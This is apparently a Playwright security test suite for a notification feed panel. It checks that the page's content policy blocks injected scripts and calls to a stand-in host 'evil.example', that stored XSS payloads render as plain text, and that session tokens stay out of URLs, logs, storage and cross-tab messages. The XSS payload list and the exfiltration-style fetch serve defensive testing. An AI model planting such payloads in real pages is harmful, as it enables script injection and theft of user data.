import { expect, PanelView, test } from './fixtures';

test('the page’s policy lets no script run that isn’t its own', async ({ browser, world }) => {
  // A context of its own: what is blocked is an error in the console, which other tests must not have.
  const context = await browser.newContext();
  const page = await context.newPage();
  const response = await page.goto(world.second);
  const policy = response?.headers()['content-security-policy'] ?? '';
  expect(policy).not.toContain('unsafe-inline');
  expect(policy).not.toContain('unsafe-eval');
  expect(policy).toContain("frame-ancestors 'none'");

  const blocked = await page.evaluate(async () => {
    // It runs in the page, which has nothing of this file.
    // oxlint-disable-next-line unicorn/consistent-function-scoping
    const add = (tag: string, attributes: Record<string, string>, text = '') => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.append(text);
      document.body.append(element);
    };
    const attempts: Record<string, () => unknown> = {
      'an inline script': () => add('script', {}, 'window.hacked = true'),
      'an inline handler': () => add('img', { onerror: 'window.hacked = true', src: '/x' }),
      'a script from elsewhere': () => add('script', { src: 'https://evil.example/x.js' }),
      'HTML as text': () => {
        document.body.innerHTML = '<b>bold</b>';
      },
      'a call that carries something away': () => fetch('https://evil.example/').catch(() => {}),
      'an image that does': () => add('img', { src: 'https://evil.example/x.png' }),
      'a frame': () => add('iframe', { src: 'https://evil.example/' }),
      'a style': () => add('style', {}, 'body { display: none }'),
      'another base': () => add('base', { href: 'https://evil.example/' }),
    };
    const reports: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      const reported = new Promise<string>((resolve) => {
        document.addEventListener(
          'securitypolicyviolation',
          ({ effectiveDirective }) => resolve(effectiveDirective),
          { once: true },
        );
      });
      // Some fail at once, by an exception.
      try {
        void attempt();
      } catch {}
      reports[name] = await reported;
    }
    return reports;
  });
  expect(blocked).toEqual({
    'an inline script': expect.stringMatching(/script-src|trusted-types/),
    'an inline handler': expect.stringMatching(/script-src|trusted-types/),
    'a script from elsewhere': expect.stringMatching(/script-src|trusted-types/),
    'HTML as text': 'require-trusted-types-for',
    'a call that carries something away': 'connect-src',
    'an image that does': 'img-src',
    'a frame': expect.stringMatching(/(frame|child)-src/),
    'a style': expect.stringMatching(/style-src/),
    'another base': 'base-uri',
  });
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await context.close();
});

const payloads = [
  '<img src="/x" onerror="window.hacked = true">',
  '<script>window.hacked = true</script>',
  '<svg onload="window.hacked = true"></svg>',
  '"><a href="javascript:window.hacked = true">click</a>',
  '</style></title><iframe srcdoc="<script>parent.hacked = true</script>"></iframe>',
  '{{constructor.constructor("window.hacked = true")()}} ${window.hacked = true}',
  'right-to-left \u202e override, NEL \u0085, separator \u2028, zero\u200bwidth',
];

test('texts of payloads are shown as they are, wherever they appear', async ({ page, world }) => {
  await page.goto(world.second);
  const view = new PanelView(page, 'Left');
  await view.useToken(await world.session('payloads', 'pia'));
  await view.isLive();
  for (const payload of payloads) {
    await world.insertActivity('payloads', payload);
    await world.insertNotification('payloads', 'pia', payload, {
      type: 'urgent',
      category: payload,
    });
  }
  await expect(view.items).toHaveCount(payloads.length);
  const texts = await view.items.locator('.pgfeed-item-text').allTextContents();
  expect(texts.toReversed()).toEqual(payloads);
  await expect(view.toasts.first()).toBeVisible();
  await view.bell.click();
  for (const payload of payloads) {
    await expect(
      view.panel.locator('.pgfeed-notification-title', { hasText: payload }).first(),
    ).toBeVisible();
  }
  const foreign = page.locator('.panel :is(img, script, iframe, a, style, object, embed)');
  await expect(foreign).toHaveCount(0);
  await expect(page.locator('.panel svg[onload], .panel [onerror]')).toHaveCount(0);
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
});

test('a token is in no address, in no log of the page, and nowhere that outlives the tab', async ({
  page,
  context,
  world,
}) => {
  const token = await world.session('secret', 'sam');
  const addresses: string[] = [];
  const authorized: string[] = [];
  const logged: string[] = [];
  context.on('request', (request) => {
    addresses.push(request.url(), request.headers().referer ?? '');
    if (request.headers().authorization === `Bearer ${token}`) authorized.push(request.url());
  });
  page.on('console', (message) => logged.push(message.text()));
  await page.goto(world.second);
  const view = new PanelView(page, 'Left');
  await view.useToken(token);
  await view.isLive();
  await world.insertNotification('secret', 'sam', 'Read me');
  await view.bell.click();
  await view.panel.getByRole('button', { name: /Read me/ }).click();
  await expect(view.bell).toHaveAccessibleName('Notifications');
  await page.keyboard.press('Escape');

  // It did travel, so that looking for it makes sense.
  expect(authorized.some((url) => url.includes('/api/activity/stream'))).toBe(true);
  expect(authorized.some((url) => url.endsWith('/read'))).toBe(true);
  expect(authorized.every((url) => url.startsWith(world.second))).toBe(true);
  expect([...addresses, ...logged, page.url()].filter((text) => text.includes(token))).toEqual([]);
  const kept = await page.evaluate(() => ({
    local: JSON.stringify({ ...localStorage }),
    cookies: document.cookie,
    body: document.body.outerHTML,
  }));
  // The other tabs see what is posted to them; a token isn't part of it.
  expect(kept.local).not.toContain(token.slice(0, 8));
  expect(kept.cookies).not.toContain(token);
  expect(kept.body).not.toContain(token);

  // Logging out forgets it.
  await view.root.getByRole('button', { name: 'Log out' }).click();
  await expect(view.root.getByRole('textbox', { name: 'Session token' })).toBeVisible();
  expect(await page.evaluate(() => JSON.stringify({ ...sessionStorage }))).not.toContain(token);
});

test('what tabs tell each other carries no token', async ({ context, world }) => {
  await context.addInitScript(() => {
    const posted: string[] = [];
    Object.assign(window, { posted });
    const post = BroadcastChannel.prototype.postMessage;
    BroadcastChannel.prototype.postMessage = function keep(message: unknown) {
      posted.push(`${this.name} ${JSON.stringify(message)}`);
      return post.call(this, message);
    };
  });
  const token = await world.session('told', 'tim');
  const page = await context.newPage();
  await page.goto(world.second);
  const view = new PanelView(page, 'Left');
  await view.useToken(token);
  await view.isLive();
  await world.insertActivity('told', 'an event');
  await expect(view.items).toHaveCount(1);
  const posted = await page.evaluate(() => (window as unknown as { posted: string[] }).posted);
  expect(posted.some((text) => text.includes('an event'))).toBe(true);
  expect(posted.filter((text) => text.includes(token))).toEqual([]);
});
